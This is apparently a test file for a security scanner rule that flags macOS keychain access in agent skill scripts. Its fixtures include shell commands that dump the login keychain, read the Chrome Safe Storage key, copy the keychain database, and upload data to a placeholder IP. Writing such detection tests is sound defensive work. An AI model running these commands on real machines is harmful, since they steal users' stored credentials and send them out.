import { keychainAccess } from '../../../src/scan/rules/keychain-access.ts';
import { testRule } from '../rule-tester.ts';
import { py, sh } from './common/skills.ts';

testRule(keychainAccess, {
  valid: [
    { name: 'adds its own password to the keychain', files: sh('security add-generic-password -s notes-skill -a "$USER" -w "$NOTES_TOKEN"') },
    { name: 'lists keychains', files: sh('security list-keychains') },
    { name: 'reads a local keys json', files: py("k = open('keys.json').read()") },
  ],
  invalid: [
    { name: 'dumps the keychain', files: sh('security dump-keychain -d login.keychain'), errors: [{ messageId: 'command', severity: 'high' }] },
    { name: 'reads chrome safe storage key', files: sh('security find-generic-password -wa "Chrome Safe Storage"'), errors: [{ messageId: 'command', severity: 'high' }] },
    { name: 'looks up its own item', files: sh('security find-generic-password -s notes-skill -w'), errors: [{ messageId: 'command', severity: 'medium' }] },
    { name: 'copies the keychain database', files: sh('cp ~/Library/Keychains/login.keychain-db /tmp/k'), errors: [{ messageId: 'read', severity: 'high' }] },
    {
      name: 'keychain db read with an upload elsewhere',
      files: { ...sh('cp ~/Library/Keychains/login.keychain-db /tmp/k'), ...sh('curl -d "x" https://198.51.100.9/u', 'scripts/u.sh') },
      errors: [{ messageId: 'readWithSend', severity: 'critical' }],
    },
  ],
});
